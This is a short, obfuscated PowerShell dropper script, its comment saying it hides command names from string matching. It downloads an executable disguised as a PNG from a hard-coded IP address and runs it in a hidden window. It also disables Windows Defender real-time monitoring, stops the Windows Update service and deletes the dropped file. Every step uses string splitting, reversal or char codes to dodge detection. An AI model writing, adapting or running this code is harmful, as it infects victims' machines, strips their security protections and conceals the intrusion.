# dropper with its command names hidden from simple string matching
$u = 'http://45.76.12.9/img/logo.png'
$d = "$env:PUBLIC\logo.exe"

$wc = & ('New-' + 'Object') ('Net.' + 'Web' + 'Client')
$wc.('Down' + 'loadFile')($u, $d)

& (-join ('ssecorP-tratS'[-1..-13])) -FilePath $d -WindowStyle Hidden

.("{1}{0}{2}" -f 'et-Mp', 'S', 'Preference') -DisableRealtimeMonitoring $true

$n = [char]83 + [char]116 + [char]111 + [char]112 + [char]45 + [char]83 + [char]101 + [char]114 + [char]118 + [char]105 + [char]99 + [char]101
& $n -Name 'wuauserv' -Force

& (('Remove-Ite', 'm') -join '') -Path $d -Force
